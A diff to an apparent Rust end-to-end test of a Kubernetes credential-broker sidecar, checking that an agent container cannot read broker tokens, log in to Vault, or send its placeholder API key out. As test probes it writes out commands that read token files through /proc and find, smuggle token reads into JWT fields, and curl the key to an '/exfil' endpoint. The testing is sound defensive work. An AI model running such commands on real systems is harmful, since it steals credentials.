@@ -442,7 +442,7 @@ impl Parts {
                 "events",
                 "secrets",
             ] {
-                text.push_str(&list(kind).unwrap_or_default());
+                text.push_str(&list(kind)?);
             }
         }
         text.push_str(&serde_json::to_string(
@@ -742,7 +742,19 @@ async fn journey(
         },
     )
     .await?;
-    let env = pod.env_of("agent")?;
+    // What the agent's process really holds, from the kernel: the spec's
+    // env plus PATH and HOSTNAME, nothing of the test's own environment.
+    let env = pod.process_environ("agent")?;
+    let names: Vec<&str> = env.iter().map(|(k, _)| k.as_str()).collect();
+    assert!(
+        !names.contains(&"KUBEBUILDER_ASSETS") && !names.contains(&"CREDBROKER_BAO"),
+        "the agent inherited the test's environment: {names:?}"
+    );
+    assert_eq!(
+        env,
+        pod.env_of("agent")?,
+        "the agent's environment is the spec's"
+    );
     let agent_key = env
         .iter()
         .find(|(k, _)| k == "OPENAI_API_KEY")
@@ -803,10 +815,11 @@ async fn journey(
     // --- 4.4/4.5 Rotation: the next request carries the new value within
     // refreshInterval + 1 s, and no request fails meanwhile.
     let second = secret_value("second");
-    let before = world.bound.request_count();
+    let before = world.bearers().len();
     let agent_lines_before = pod.logs("agent").lines().count();
-    let written = Instant::now();
     parts.put_secret("teams/research/openai", &second)?;
+    // The write is done when the CLI returns.
+    let written = Instant::now();
     let want = format!("Bearer {second}");
     let seen = wait_until("the rotated value upstream", REFRESH * 3, || async {
         if world.bearers()[before..].contains(&want) {
@@ -879,28 +892,85 @@ async fn journey(
     );
     let (ok, out) = sh("cat /proc/*/root/var/run/secrets/credbroker/token 2>&1").await?;
     assert!(!ok && !out.contains("eyJ"), "a token through /proc: {out}");
-    let (ok, out) =
-        sh("find / -xdev -name token -path '*credbroker*' 2>/dev/null | xargs -r cat").await?;
+    // Nothing of the broker's is mounted in the agent, and no file anywhere
+    // it can reach (every mount included) holds a token.
+    let (ok, mounts) = sh("cat /proc/self/mountinfo").await?;
     assert!(
-        !out.contains("eyJ"),
-        "a broker token found on the filesystem ({ok}): {out}"
+        ok && mounts.contains(" /run/credbroker/trust "),
+        "the agent's mounts: {mounts}"
+    );
+    for broker in [
+        "/run/secrets/credbroker",
+        "/run/credbroker/ca",
+        "/etc/credbroker",
+    ] {
+        assert!(
+            !mounts.contains(broker),
+            "{broker} is mounted in the agent: {mounts}"
+        );
+    }
+    let (_, out) = sh(
+        "find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -type f -name token -print 2>/dev/null \
+         | while read -r f; do cat \"$f\" 2>/dev/null; done; echo searched",
+    )
+    .await?;
+    assert!(
+        out.contains("searched") && !out.contains("eyJ"),
+        "a broker token the agent can read: {out}"
     );
 
-    // 5b. Logging in to Vault with anything it can find fails.
-    let role = format!(
-        "credbroker-{}",
-        run(parts
-            .server
-            .kubectl()
-            .args(["get", "configmaps", "-n", NS, "-o", "json"]))?
-        .split("\\\"vaultRole\\\":\\\"credbroker-")
-        .nth(1)
-        .and_then(|rest| rest.split("\\\"").next())
-        .unwrap_or("unknown")
+    // 5b. Logging in to Vault with anything it can find fails. First a
+    // positive control: the sidecar's own token, sent the same way from the
+    // pod's network, does log in, so a refusal below is the refusal of the
+    // agent's credentials and not a broken path.
+    let bindings_file = Api::<ConfigMap>::namespaced(parts.cluster.client.clone(), NS)
+        .list(&Default::default())
+        .await?
+        .items
+        .into_iter()
+        .find_map(|cm| cm.data?.get("bindings.v1.json").cloned())
+        .ok_or_else(|| Failure("no bindings ConfigMap in the namespace".into()))?;
+    let bindings_file: credbroker_crds::config::SidecarBindings =
+        serde_json::from_str(&bindings_file)?;
+    let role = bindings_file
+        .vault_role
+        .filter(|r| r.starts_with("credbroker-"))
+        .ok_or_else(|| Failure("no vaultRole in the bindings ConfigMap".into()))?;
+    let login = |jwt: &str| json!({ "role": role, "jwt": jwt }).to_string();
+    let real_token = std::fs::read_to_string(pod.volume_dir("credbroker-token")?.join("token"))?;
+    let body = parts.dir.path().join("login.json");
+    std::fs::write(&body, login(real_token.trim()))?;
+    let control = run(Command::new("nsenter")
+        .arg(format!("--net={}", world.pod_netns().path().display()))
+        .args([
+            "curl",
+            "-sk",
+            "--noproxy",
+            "*",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}",
+        ])
+        // This curl runs in the pod's network but not in a container, so it
+        // has the host's resolver: give it the name the cluster DNS gives.
+        .arg("--resolve")
+        .arg(format!("{VAULT_HOST}:8200:{}", world.pair.b().ipv4()))
+        .arg("--data-binary")
+        .arg(format!("@{}", body.display()))
+        .arg(format!(
+            "https://{VAULT_HOST}:8200/v1/auth/kubernetes/login"
+        )))?;
+    std::fs::remove_file(&body)?;
+    assert_eq!(
+        control.trim(),
+        "200",
+        "the sidecar's token logs in from the pod's network"
     );
     for jwt in [
-        placeholder,
-        "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null)",
+        placeholder.to_owned(),
+        "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>&1)".to_owned(),
+        "$(cat /var/run/secrets/credbroker/token 2>&1)".to_owned(),
     ] {
         let (_, out) = sh(&format!(
             "curl -sk -w ' http=%{{http_code}}' https://{VAULT_HOST}:8200/v1/auth/kubernetes/login \
@@ -908,7 +978,9 @@ async fn journey(
         ))
         .await?;
         assert!(
-            !out.contains("client_token") && (out.contains("http=400") || out.contains("http=403")),
+            !out.contains("client_token")
+                && (out.contains("http=400") || out.contains("http=403"))
+                && out.contains("errors"),
             "a Vault login from the agent: {out}"
         );
     }
@@ -942,16 +1014,28 @@ async fn journey(
         [format!("Bearer {placeholder}")],
         "what the other host got"
     );
+    // Cleartext: a control request without the placeholder gets through,
+    // the one with it is blocked by the sidecar, which says why.
+    let (ok, out) = sh(&format!(
+        "curl -sS -o /dev/null -w '%{{http_code}}' http://{OTHER_HOST}:8080/control"
+    ))
+    .await?;
+    assert!(
+        ok && out.ends_with("200"),
+        "the cleartext control request: {out}"
+    );
     let (_, out) = sh(&format!(
         "curl -sS -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $OPENAI_API_KEY\" \
          http://{OTHER_HOST}:8080/exfil"
     ))
     .await?;
-    assert_eq!(
-        world.other_http.request_count(),
-        0,
-        "cleartext with the placeholder: {out}"
-    );
+    let paths: Vec<String> = world
+        .other_http
+        .requests()
+        .iter()
+        .map(|r| r.path.clone())
+        .collect();
+    assert_eq!(paths, ["/control"], "cleartext with the placeholder: {out}");
     assert!(
         !out.ends_with("200"),
         "the cleartext request was answered: {out}"
@@ -1004,11 +1088,14 @@ for family, addr in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, sys.argv[2
     assert_eq!(world.udp_datagrams(), 0, "a UDP datagram reached the world");
 
     pod.check().map_err(|e| Failure(e.to_string()))?;
-    // The sidecar refused the cleartext placeholder with a reason it logged.
+    // The sidecar audited the blocked cleartext placeholder.
     let sidecar = pod.logs("credbroker-sidecar");
     assert!(
-        sidecar.contains(OTHER_HOST),
-        "the sidecar audited the blocked request"
+        sidecar
+            .lines()
+            .any(|l| l.contains("exfiltration_blocked") && l.contains("/exfil")),
+        "the sidecar audited the blocked request: {}",
+        tail(&sidecar, 3000)
     );
     Ok(())
 }
